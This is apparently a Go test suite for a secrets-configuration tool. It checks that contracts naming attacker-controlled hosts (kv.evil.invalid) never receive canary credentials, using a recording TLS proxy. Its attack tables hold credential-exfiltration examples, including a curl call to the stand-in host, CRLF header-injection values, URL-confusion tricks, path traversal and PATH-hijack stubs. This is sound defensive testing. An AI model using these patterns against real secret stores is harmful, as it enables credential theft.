package main

import (
	"bytes"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/sha256"
	"crypto/tls"
	"crypto/x509"
	"encoding/hex"
	"encoding/pem"
	"fmt"
	"io"
	"log"
	"maps"
	"math/big"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/victor-ai/victorgen/compiler/plan"
)

// An attack is what someone writes into a contract so that a credential of anyone who
// builds it goes elsewhere.
type attack struct {
	contract string            // of the environment
	files    map[string]string // next to it
	// allow are flags by which someone else says so; the credential must arrive then, or
	// else the attack is not worth the name. None can where a contract may not say it.
	allow []string
}

// evil and the like are hosts that the attacker's server stands at. All names lead to
// it, by a proxy that ends TLS with certificates that the machine trusts; those of
// untrusted, with the attacker's own.
const (
	evil      = "https://kv.evil.invalid"
	untrusted = "https://vault.untrusted.invalid"
)

// noAddress are fields that name no address, and why.
type noAddress string

// attacks has, for each kind of source by its name, what a
// contract can do with each of its fields.
var attacks = map[string]map[string][]any{
	plan.Env: {
		"file":        {attack{contract: `sources: default: {kind: "env", file: "` + evil + `/x"}`}, attack{contract: `sources: default: {kind: "env", file: "//kv.evil.invalid/x"}`}},
		"environment": {noAddress("a switch")},
	},
	plan.Files: {
		"dir": {attack{contract: `sources: default: {kind: "files", dir: "` + evil + `/x"}`}},
	},
	plan.Exec: {
		"command": {
			attack{contract: `sources: default: {kind: "exec", command: ["curl", "` + evil + `"]}`},
			attack{contract: `sources: default: {kind: "exec", command: ["./evil"]}`},
		},
		"prefix": {noAddress("a name at the source")}, "names": {noAddress("how names are written")}, "object": {noAddress("a name at the source")},
	},
	plan.SOPS: {
		"file": {
			attack{contract: sopsFile("yaml"), files: map[string]string{"secrets.yaml": "sops:\n  hc_vault:\n    - vault_address: " + evil + "\n"}, allow: []string{"--allow", evil}},
			attack{contract: sopsFile("yaml"), files: map[string]string{"secrets.yaml": "sops:\n  azure_kv:\n    - vault_url: " + evil + "\n"}, allow: []string{"--allow", evil}},
			attack{contract: sopsFile("yaml"), files: map[string]string{"secrets.yaml": "sops:\n  key_groups:\n    - hc_vault:\n        - vault_address: " + evil + "\n"}, allow: []string{"--allow", evil}},
			attack{contract: sopsFile("yaml"), files: map[string]string{"secrets.yaml": "sops:\n  kms:\n    - arn: 'arn:aws:kms:evil.invalid/:111122223333:key/0-a'\n"}},
			attack{contract: sopsFile("yaml"), files: map[string]string{"secrets.yaml": "sops:\n  kms:\n    - arn: 'arn:aws:kms:us-east-1:111122223333:key/0-a'\n      endpoint: " + evil + "\n"}},
			attack{contract: sopsFile("yaml"), files: map[string]string{"secrets.yaml": "sops:\n  hckms:\n    - key_id: 'evil.invalid/:x'\n"}},
			attack{contract: sopsFile("yaml"), files: map[string]string{"secrets.yaml": "sops:\n  gcp_kms:\n    - resource_id: projects/p/locations/global/keyRings/r/cryptoKeys/k\n      endpoint: " + evil + "\n"}},
			attack{contract: sopsFile("json"), files: map[string]string{"secrets.json": `{"sops": {"hc_vault": [{"vault_address": "` + evil + `"}]}}`}, allow: []string{"--allow", evil}},
			attack{contract: sopsFile("json"), files: map[string]string{"secrets.json": `{"sops": {"age": []}, "SOPS": {"hc_vault": [{"vault_address": "` + evil + `"}]}}`}},
			attack{contract: sopsFile("env"), files: map[string]string{"secrets.env": "sops_hc_vault__list_0__map_vault_address=" + evil + "\n"}, allow: []string{"--allow", evil}},
		},
		"names": {noAddress("how names are written")}, "object": {noAddress("a name at the source")},
	},
	plan.Vault: {
		"address": {
			attack{contract: `sources: default: {kind: "vault", address: "` + evil + `"}`, allow: []string{"--allow", evil}},
			attack{contract: `sources: default: {kind: "vault", address: "http://kv.evil.invalid"}`, allow: []string{"--allow", "http://kv.evil.invalid"}},
			attack{contract: `sources: default: {kind: "vault", address: "http://LOOPBACK"}`, allow: []string{"--allow", "http://LOOPBACK"}},
			attack{contract: `sources: default: {kind: "vault", address: "https://vault.honest.invalid.evil.invalid"}`},
			attack{contract: `sources: default: {kind: "vault", address: "https://vault.honest.invalid@kv.evil.invalid"}`},
			attack{contract: `sources: default: {kind: "vault", address: "https://vault.honest.invalid\\@kv.evil.invalid"}`},
			attack{contract: `sources: {default: {kind: "vault"}, second: {kind: "vault", address: "` + evil + `"}}` + "\ninputs: TOKEN: source: \"second\"", allow: []string{"--allow", evil}},
			attack{contract: `delivery: kind: "external"` + "\n" + `sources: default: {kind: "vault", address: "` + evil + `", store: role: "app"}`, allow: []string{"--allow", evil}},
		},
		"caBundle": {attack{contract: `sources: default: {kind: "vault", address: "` + untrusted + `", caBundle: "CABUNDLE"}`, allow: []string{"--policy", "AUTHORITY"}}},
		"mount":    {attack{contract: `sources: default: {kind: "vault", mount: "//kv.evil.invalid/x"}`}, attack{contract: `sources: default: {kind: "vault", mount: "` + evil + `"}`}},
		"prefix":   {attack{contract: `sources: default: {kind: "vault", prefix: "//kv.evil.invalid/x"}`}, attack{contract: `sources: default: {kind: "vault", prefix: "` + evil + `"}`}},
		"namespace": {attack{contract: `sources: default: {kind: "vault", namespace: "` + evil + `"}`}, // a header
			attack{contract: `sources: default: {kind: "vault", namespace: "x\r\nHost: kv.evil.invalid"}`}},
		"version": {noAddress("one of two words")}, "names": {noAddress("how names are written")},
		"object": {attack{contract: `sources: default: {kind: "vault", object: "//kv.evil.invalid/x"}`}},
	},
	plan.AWSSSM:            attacksOnAWS("aws-ssm"),
	plan.AWSSecretsManager: attacksOnAWS("aws-secretsmanager"),
	plan.AzureKeyVault: {
		"vault": {
			attack{contract: `sources: default: {kind: "azure-keyvault", vault: "` + evil + `"}`, allow: []string{"--allow", evil}},
			attack{contract: `sources: default: {kind: "azure-keyvault", vault: "https://kv.vault.azure.net.evil.invalid"}`},
			attack{contract: `sources: default: {kind: "azure-keyvault", vault: "https://kv.vault.azure.net@kv.evil.invalid"}`},
			attack{contract: `sources: default: {kind: "azure-keyvault", vault: "https://kv.evil.invalid/.vault.azure.net"}`},
			attack{contract: `sources: default: {kind: "azure-keyvault", vault: "kv.evil.invalid"}`},
			attack{contract: `sources: default: {kind: "azure-keyvault", vault: "kv.evil.invalid#"}`},
			attack{contract: `sources: default: {kind: "azure-keyvault", vault: "http://kv.evil.invalid"}`},
		},
		"prefix": {attack{contract: `sources: default: {kind: "azure-keyvault", vault: "shop-kv", prefix: "//kv.evil.invalid/"}`}},
		"names":  {noAddress("how names are written")},
		"object": {attack{contract: `sources: default: {kind: "azure-keyvault", vault: "shop-kv", object: "//kv.evil.invalid/"}`}},
	},
	plan.GCPSecretManager: {
		"project": {
			attack{contract: `sources: default: {kind: "gcp-secretmanager", project: "//kv.evil.invalid/x"}`},
			attack{contract: `sources: default: {kind: "gcp-secretmanager", project: "kv.evil.invalid:x"}`},
		},
		"location": {
			attack{contract: `sources: default: {kind: "gcp-secretmanager", project: "shop", location: "kv.evil.invalid/"}`},
			attack{contract: `sources: default: {kind: "gcp-secretmanager", project: "shop", location: "x@kv.evil.invalid:443#"}`},
		},
		"prefix": {attack{contract: `sources: default: {kind: "gcp-secretmanager", project: "shop", prefix: "//kv.evil.invalid/"}`}},
		"names":  {noAddress("how names are written")},
		"object": {attack{contract: `sources: default: {kind: "gcp-secretmanager", project: "shop", object: "//kv.evil.invalid/"}`}},
	},
}

func sopsFile(format string) string {
	return `sources: default: {kind: "sops", file: "secrets.` + format + `"}`
}

func attacksOnAWS(kind string) map[string][]any {
	in := func(more string) attack {
		return attack{contract: `sources: default: {kind: "` + kind + `", region: "us-east-1"` + more + `}`}
	}
	at := func(region string) attack {
		return attack{contract: `sources: default: {kind: "` + kind + `", region: "` + region + `"}`}
	}
	return map[string][]any{
		"region": {at("evil.invalid/"), at("x.evil.invalid#"), at("us-east-1@kv.evil.invalid/"), at("kv.evil.invalid:443?")},
		"prefix": {in(`, prefix: "//kv.evil.invalid/"`), in(`, prefix: "` + evil + `"`),
			attack{contract: in("").contract + "\n" + `inputs: TOKEN: remote: "arn:aws:ssm:evil.invalid/:111122223333:parameter/x"`},
			attack{contract: in("").contract + "\n" + `inputs: TOKEN: remote: "arn:aws:secretsmanager:evil.invalid/:111122223333:secret:x"`}},
		"kmsKey": {in(`, kmsKey: "arn:aws:kms:evil.invalid/:111122223333:key/0-a"`), in(`, kmsKey: "` + evil + `"`)},
		"names":  {noAddress("how names are written")},
		"object": {in(`, object: "//kv.evil.invalid/"`)},
	}
}

// otherAttacks are by what else of a contract can name an address.
var otherAttacks = map[string]attack{
	"certificate":             {contract: `delivery: certificate: "` + evil + `/cert.pem"`},
	"controller":              {contract: `delivery: controller: {name: "x.kv.evil.invalid", namespace: "kube-system"}`},
	"controller's path":       {contract: `delivery: controller: {name: "../../../evil", namespace: "kube-system"}`},
	"controller in a host":    {contract: `delivery: controller: {name: "kv.evil.invalid:443/x", namespace: "kube-system"}`},
	"Argo CD":                 {contract: `argocd: {repoURL: "` + evil + `/x.git", server: "` + evil + `"}`},
	"a runbook":               {contract: `alerts: runbook: "` + evil + `/{alert}"`},
	"documentation":           {contract: `inputs: TOKEN: docs: "` + evil + `"`},
	"workloads":               {contract: `workloads: paths: ["` + evil + `/x"]`},
	"workloads of others":     {contract: `workloads: paths: ["k8s"]`, files: map[string]string{"k8s/kustomization.yaml": "resources: [\"" + evil + "/x.yaml\", \"" + evil + "/x.git//y\"]\n"}},
	"an overlay":              {files: map[string]string{"overlay/kustomization.yaml": "resources: [../../../deploy/test, \"" + evil + "/x.yaml\"]\n"}},
	"a role of the operator":  {contract: `delivery: kind: "external"` + "\n" + `sources: default: {kind: "aws-ssm", region: "us-east-1", store: serviceAccount: awsRole: "` + evil + `"}`},
	"a tenant":                {contract: `delivery: kind: "external"` + "\n" + `sources: default: {kind: "azure-keyvault", vault: "shop-kv", store: serviceAccount: {azureClient: "x", azureTenant: "//kv.evil.invalid/"}}`},
	"a login of the operator": {contract: `delivery: kind: "external"` + "\n" + `sources: default: {kind: "vault", address: "https://vault.honest.invalid", store: {role: "x", mountPath: "` + evil + `"}}`},
	"a cluster of Google's":   {contract: `delivery: kind: "external"` + "\n" + `sources: default: {kind: "gcp-secretmanager", project: "shop", store: {serviceAccount: gcpAccount: "x@shop.iam.gserviceaccount.com", clusterProject: "` + evil + `", clusterLocation: "x", clusterName: "x"}}`},
}

// honest are contracts whose credentials must arrive where they belong, or else the
// attacker's server would not see any.
var honest = map[string]string{
	".amazonaws.com":        `sources: default: {kind: "aws-ssm", region: "us-east-1"}`,
	"secretsmanager.":       `sources: default: {kind: "aws-secretsmanager", region: "us-east-1"}`,
	".vault.azure.net":      `sources: default: {kind: "azure-keyvault", vault: "shop-kv"}`,
	".googleapis.com":       `sources: default: {kind: "gcp-secretmanager", project: "shop"}`,
	"vault.honest.invalid":  `sources: default: {kind: "vault"}`,
	"vault.honest.invalid:": `sources: default: {kind: "vault", address: "https://vault.honest.invalid"}`,
}

// services are the hosts that may be sent credentials, by their ends.
var services = []string{".amazonaws.com", ".vault.azure.net", ".googleapis.com", "login.microsoftonline.com", "vault.honest.invalid"}

// credentials have this in them, and none is in anything else.
const credentialMark = "c4nary"

// internet is a server that stands at every address.
type internet struct {
	proxy, plain   *httptest.Server
	authority, own *x509.Certificate // what the machine trusts, and the attacker's
	keys           map[*x509.Certificate]*ecdsa.PrivateKey
	open           sync.WaitGroup // connections and what serves them
	mu             sync.Mutex
	got            map[string][]string // requests by host, with their headers and bodies
}

func newInternet(t *testing.T) *internet {
	t.Helper()
	n := &internet{keys: map[*x509.Certificate]*ecdsa.PrivateKey{}, got: map[string][]string{}}
	n.authority, n.own = n.certify(t, "machine", nil), n.certify(t, "attacker", nil)
	n.plain = n.serve(t, func(w http.ResponseWriter, r *http.Request) { n.answer(w, r, r.Host) })
	n.proxy = n.serve(t, func(w http.ResponseWriter, r *http.Request) {
		if r.Method != http.MethodConnect {
			n.answer(w, r, r.Host)
			return
		}
		conn, _, err := http.NewResponseController(w).Hijack()
		if err != nil {
			return
		}
		host, _, _ := net.SplitHostPort(r.Host)
		n.note(host, "CONNECT")
		fmt.Fprint(conn, "HTTP/1.1 200 OK\r\n\r\n")
		by := n.authority
		if strings.Contains(host, "untrusted") {
			by = n.own
		}
		leaf := n.certify(t, host, by)
		inner := tls.Server(conn, &tls.Config{NextProtos: []string{"h2", "http/1.1"}, Certificates: []tls.Certificate{{Certificate: [][]byte{leaf.Raw}, PrivateKey: n.key(leaf)}}})
		server := &http.Server{ErrorLog: log.New(io.Discard, "", 0), Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { n.answer(w, r, host) })}
		server.Protocols = new(http.Protocols)
		server.Protocols.SetHTTP1(true)
		server.Protocols.SetHTTP2(true)
		closed := make(chan struct{})
		var end sync.Once
		server.ConnState = func(_ net.Conn, s http.ConnState) {
			if s == http.StateClosed {
				end.Do(func() { close(closed) })
			}
		}
		server.Serve(&once{conn: inner, closed: closed})
	})
	return n
}

// serve starts a server whose connections are counted until all of them is over, also of
// one that its handler has taken.
func (n *internet) serve(t *testing.T, handle http.HandlerFunc) *httptest.Server {
	s := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		n.open.Add(1)
		defer n.open.Done()
		handle(w, r)
	}))
	s.Config.ConnState = func(_ net.Conn, state http.ConnState) {
		switch state {
		case http.StateNew:
			n.open.Add(1)
		case http.StateClosed, http.StateHijacked:
			n.open.Done()
		}
	}
	s.Start()
	t.Cleanup(s.Close)
	return s
}

// once is a listener with one connection.
type once struct {
	conn   net.Conn
	closed chan struct{}
	taken  bool
}

func (o *once) Accept() (net.Conn, error) {
	if o.taken {
		<-o.closed
		return nil, net.ErrClosed
	}
	o.taken = true
	return o.conn, nil
}
func (o *once) Close() error   { return nil }
func (o *once) Addr() net.Addr { return o.conn.LocalAddr() }

// certify makes a certificate of a host, or an authority.
func (n *internet) certify(t *testing.T, name string, by *x509.Certificate) *x509.Certificate {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Error(err)
	}
	serial, _ := rand.Int(rand.Reader, big.NewInt(1<<62))
	template := &x509.Certificate{SerialNumber: serial, NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour), BasicConstraintsValid: true}
	template.Subject.CommonName = name
	signer := key
	if by == nil {
		template.IsCA, template.KeyUsage, by = true, x509.KeyUsageCertSign, template
	} else {
		template.DNSNames = []string{name}
		signer = n.key(by)
	}
	der, err := x509.CreateCertificate(rand.Reader, template, by, key.Public(), signer)
	if err != nil {
		t.Error(err)
	}
	cert, err := x509.ParseCertificate(der)
	if err != nil {
		t.Error(err)
	}
	n.mu.Lock()
	n.keys[cert] = key
	n.mu.Unlock()
	return cert
}

func (n *internet) key(c *x509.Certificate) *ecdsa.PrivateKey {
	n.mu.Lock()
	defer n.mu.Unlock()
	return n.keys[c]
}

func (n *internet) note(host, request string) {
	n.mu.Lock()
	defer n.mu.Unlock()
	n.got[host] = append(n.got[host], request)
}

// answer notes a request, and answers so that the caller goes on.
func (n *internet) answer(w http.ResponseWriter, r *http.Request, host string) {
	body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
	var text bytes.Buffer
	fmt.Fprintln(&text, r.Method, r.URL)
	r.Header.Write(&text)
	text.Write(body)
	n.note(host, text.String())
	w.Header().Set("Content-Type", "application/json")
	switch {
	case strings.Contains(r.URL.Path, "/token") || strings.Contains(r.URL.Path, "/identity"):
		fmt.Fprintf(w, `{"access_token":"token-%s","token_type":"Bearer","expires_in":3600,"expires_on":"%d","resource":"x"}`, credentialMark, time.Now().Add(time.Hour).Unix())
	case strings.Contains(r.URL.RawQuery, "api-version") && r.Header.Get("Authorization") == "":
		_, domain, _ := strings.Cut(host, ".")
		w.Header().Set("WWW-Authenticate", `Bearer authorization="https://login.microsoftonline.com/tenant", resource="https://`+domain+`"`)
		w.WriteHeader(http.StatusUnauthorized)
	default:
		w.WriteHeader(http.StatusForbidden)
		io.WriteString(w, `{"errors":["no"]}`)
	}
}

// sent returns the hosts that someone has turned to, and those that were sent a
// credential, since the last call. Those who did have ended: what they have sent is waited
// for, or it would count as the next one's.
func (n *internet) sent() (asked, told []string) {
	n.open.Wait()
	n.mu.Lock()
	defer n.mu.Unlock()
	for host, requests := range n.got {
		asked = append(asked, host)
		if slices.ContainsFunc(requests, func(r string) bool { return strings.Contains(r, credentialMark) }) {
			told = append(told, host)
		}
	}
	clear(n.got)
	return asked, told
}

// attacked is a module, and its user, who has credentials for all there is.
type attacked struct {
	*internet
	dir, program string
	ran          string // a file that is there once sops was run
	env          []string
	replace      *strings.Replacer
}

func newAttacked(t *testing.T) *attacked {
	t.Helper()
	a := &attacked{internet: newInternet(t), dir: filepath.Join(t.TempDir(), "module"), program: filepath.Join(t.TempDir(), "victorgen")}
	home, bin := t.TempDir(), t.TempDir()
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(self, a.program); err != nil {
		t.Fatal(err)
	}
	text := func(c *x509.Certificate) string {
		return string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: c.Raw}))
	}
	sum := sha256.Sum256(a.own.Raw)
	loopback := strings.TrimPrefix(a.plain.URL, "http://")
	writeFile(t, filepath.Join(home, "authority.cue"), "package policy\n\nallow: {addresses: [\""+untrusted+"\"], certificates: [\""+hex.EncodeToString(sum[:])+"\"]}\n")
	writeFile(t, filepath.Join(home, "machine.pem"), text(a.authority))
	writeFile(t, filepath.Join(home, "google.json"), `{"type": "authorized_user", "client_id": "x", "client_secret": "x", "refresh_token": "refresh-`+credentialMark+`"}`)
	writeFile(t, filepath.Join(home, "kubeconfig"), `{apiVersion: v1, kind: Config, current-context: c, contexts: [{name: c, context: {cluster: c, user: u}}],
clusters: [{name: c, cluster: {server: "https://kubernetes.cluster.invalid"}}], users: [{name: u, user: {token: token-`+credentialMark+`}}]}`)
	// sops goes where the file says: to run it is to tell it all.
	a.ran = filepath.Join(home, "ran")
	writeFile(t, filepath.Join(bin, "sops"), "#!/bin/sh\ncase \"$*\" in *version*) echo 'sops 3.11.0'; exit 0;; esac\n> "+a.ran+"\nexit 1\n")
	if err := os.Chmod(filepath.Join(bin, "sops"), 0o755); err != nil {
		t.Fatal(err)
	}
	a.replace = strings.NewReplacer("LOOPBACK", loopback, "CABUNDLE", strings.ReplaceAll(text(a.own), "\n", `\n`), "AUTHORITY", filepath.Join(home, "authority.cue"))
	a.env = []string{
		"HOME=" + home, "PATH=" + bin + string(os.PathListSeparator) + os.Getenv("PATH"), "TMPDIR=" + t.TempDir(),
		"HTTPS_PROXY=" + a.proxy.URL, "HTTP_PROXY=" + a.proxy.URL, "https_proxy=" + a.proxy.URL, "http_proxy=" + a.proxy.URL, "SSL_CERT_FILE=" + filepath.Join(home, "machine.pem"), "SSL_CERT_DIR=" + home,
		"VAULT_ADDR=https://vault.honest.invalid", "VAULT_TOKEN=token-" + credentialMark, "VAULT_MAX_RETRIES=0",
		"AWS_ACCESS_KEY_ID=AKID" + credentialMark, "AWS_SECRET_ACCESS_KEY=secret-" + credentialMark, "AWS_SESSION_TOKEN=session-" + credentialMark, "AWS_MAX_ATTEMPTS=1", "AWS_EC2_METADATA_DISABLED=true",
		"IDENTITY_ENDPOINT=" + a.plain.URL + "/identity", "IDENTITY_HEADER=x", "GOOGLE_APPLICATION_CREDENTIALS=" + filepath.Join(home, "google.json"),
		"KUBECONFIG=" + filepath.Join(home, "kubeconfig"),
	}
	return a
}

// tries runs the verbs that read and write, and returns the hosts that were asked, those
// that were sent a credential, and what was printed.
func (a *attacked) tries(t *testing.T, contract string, files map[string]string, flags []string, lines ...string) (asked, told []string, out string) {
	t.Helper()
	if err := os.RemoveAll(a.dir); err != nil {
		t.Fatal(err)
	}
	for name, text := range map[string]string{
		"cue.mod/module.cue": "module: \"test.example/secrets@v0\"\nlanguage: version: \"v0.15.0\"\n",
		"good.pem":           string(read(t, "../../fixtures/certificates/good.pem")),
		"contract.cue": `package app

import "github.com/victor-ai/victorgen/schema"

schema.#Environment

namespace: "apps"
delivery: certificate: string | *"good.pem"
inputs: {
	TOKEN:    schema.#Required
	PASSWORD: schema.#Generated & {generate: {kind: "password"}, maxAge: "1h"}
}
secrets: app: keys: {token: input: "TOKEN", password: input: "PASSWORD"}
`,
		"envs/test/env.cue": "package app\n\nenvironment: \"test\"\n" + a.replace.Replace(contract) + "\n",
	} {
		writeFile(t, filepath.Join(a.dir, name), text)
	}
	for name, text := range files {
		writeFile(t, filepath.Join(a.dir, "envs/test", name), text)
	}
	for _, line := range lines {
		args := append(strings.Fields(line), "envs/test")
		for _, flag := range flags {
			args = append(args, a.replace.Replace(flag))
		}
		cmd := exec.Command(a.program, args...)
		cmd.Dir, cmd.Env = a.dir, a.env
		printed, _ := cmd.CombinedOutput()
		if cmd.ProcessState == nil {
			t.Fatalf("%s did not run", line)
		}
		out += line + "\n" + string(printed)
	}
	asked, told = a.sent()
	if _, err := os.Stat(a.ran); err == nil {
		asked, told = append(asked, "sops"), append(told, "sops")
		os.Remove(a.ran)
	}
	return asked, told, out
}

// TestAttackedPath: a program of the working tree that PATH leads to is run by no one: not
// by what victorgen starts itself, nor by the libraries that log in to clouds.
func TestAttackedPath(t *testing.T) {
	if raceDetector {
		t.Skip("it runs processes, which have no race detector")
	}
	a := newAttacked(t)
	beside := t.TempDir()
	for _, program := range []struct{ name, contract, verb string }{
		{"az", `sources: default: {kind: "azure-keyvault", vault: "shop-kv"}`, "build --timeout 5s"},
		{"git", "", "diff --from HEAD"},
		{"sops", `sources: default: {kind: "sops", file: "secrets.enc.yaml"}`, "build --timeout 5s"},
		{"tool", `sources: default: {kind: "exec", command: ["tool"]}`, "build --timeout 5s --allow exec:tool"},
	} {
		ran := filepath.Join(beside, program.name+"-ran")
		for _, dir := range []string{filepath.Join(a.dir, "tools"), beside} {
			a.tries(t, program.contract, map[string]string{"secrets.enc.yaml": "TOKEN: ENC[x]\nsops:\n  version: 3.11.0\n  mac: x\n  lastmodified: \"2026-01-02T03:04:05Z\"\n  age: [{recipient: age1x, enc: x}]\n"}, nil)
			file := filepath.Join(dir, program.name)
			writeFile(t, file, "#!/bin/sh\n> "+ran+"\nexit 1\n")
			if err := os.Chmod(file, 0o755); err != nil {
				t.Fatal(err)
			}
			for name, where := range map[string]string{"at": dir, "relative": "tools:."} {
				cmd := exec.Command(a.program, append(strings.Fields(program.verb), "envs/test")...)
				cmd.Dir, cmd.Env = a.dir, append(slices.Clone(a.env), "AZURE_TOKEN_CREDENTIALS=AzureCLICredential", "PATH="+where+":"+os.Getenv("PATH"))
				out, _ := cmd.CombinedOutput()
				_, err := os.Stat(ran)
				if want := dir == beside && name == "at"; (err == nil) != want {
					t.Errorf("%s, with PATH=%s: run %v, want %v\n%s", program.name, where, err == nil, want, out)
				}
				os.Remove(ran)
			}
		}
	}
}

// trusted reports whether a host is a service's own, or the machine's.
func (a *attacked) trusted(host string) bool {
	return slices.ContainsFunc(services, func(end string) bool { return strings.HasSuffix(host, end) })
}

// TestAttacks: at every address that a contract can name, for each kind of source, is a
// server of the attacker. It gets no credential, and is not even turned to, unless
// someone else than the contract says so; and then it does.
func TestAttacks(t *testing.T) {
	if raceDetector {
		t.Skip("it runs processes, which have no race detector")
	}
	kinds := map[string][]string{}
	for _, kind := range plan.Kinds {
		kinds[kind.Name] = kind.Fields
	}
	for kind, fields := range kinds {
		for _, field := range fields {
			if len(attacks[kind][field]) == 0 {
				t.Errorf("nobody attacks by the field %s of the kind %s of sources: add it to attacks", field, kind)
			}
		}
	}
	for kind, fields := range attacks {
		for field := range fields {
			if !slices.Contains(kinds[kind], field) {
				t.Errorf("the kind %s of sources has no field %s", kind, field)
			}
		}
	}
	verbs := []string{"build --timeout 5s", "verify --source --timeout 5s"}
	fails := func(t *testing.T, a *attacked, what attack, verbs ...string) {
		t.Helper()
		asked, told, out := a.tries(t, what.contract, what.files, nil, verbs...)
		for _, host := range asked {
			if identity := strings.TrimPrefix(a.plain.URL, "http://"); !a.trusted(host) && (host != identity || strings.Contains(what.contract, "LOOPBACK")) {
				t.Errorf("%s: %s was turned to\n%s", what.contract, host, out)
			}
		}
		for _, host := range told {
			if !a.trusted(host) {
				t.Errorf("%s: %s was sent a credential\n%s", what.contract, host, out)
			}
		}
		if len(what.allow) == 0 {
			return
		}
		if _, told, out := a.tries(t, what.contract, what.files, what.allow, verbs...); !slices.ContainsFunc(told, func(host string) bool { return !a.trusted(host) }) {
			t.Errorf("%s: with %v the credential does not arrive, so nothing is shown\n%s", what.contract, what.allow, out)
		}
	}
	for kind, fields := range attacks {
		t.Run(kind, func(t *testing.T) {
			t.Parallel()
			a := newAttacked(t)
			for _, field := range slices.Sorted(maps.Keys(fields)) {
				for _, what := range fields[field] {
					if what, ok := what.(attack); ok {
						fails(t, a, what, verbs...)
					}
				}
			}
		})
	}
	t.Run("others", func(t *testing.T) {
		t.Parallel()
		a := newAttacked(t)
		for _, name := range slices.Sorted(maps.Keys(otherAttacks)) {
			// The cluster's own address is in the kubeconfig.
			fails(t, a, otherAttacks[name], "vet", "build --offline", "build --timeout 5s", "explain")
			asked, told, out := a.tries(t, otherAttacks[name].contract, otherAttacks[name].files, nil, "cert fetch", "verify")
			for _, host := range slices.Concat(asked, told) {
				if host != "kubernetes.cluster.invalid" {
					t.Errorf("%s: %s was turned to\n%s", name, host, out)
				}
			}
		}
	})
	t.Run("honest", func(t *testing.T) {
		t.Parallel()
		a := newAttacked(t)
		for host, contract := range honest {
			if _, told, out := a.tries(t, contract, nil, nil, verbs...); !slices.ContainsFunc(told, func(h string) bool { return strings.Contains(h+":", host) }) {
				t.Errorf("%s: %s was sent nothing, but %v\n%s", contract, host, told, out)
			}
		}
		if _, told, _ := a.tries(t, "", nil, nil, "verify"); !slices.Contains(told, "kubernetes.cluster.invalid") {
			t.Errorf("the cluster was sent nothing, but %v", told)
		}
	})
}
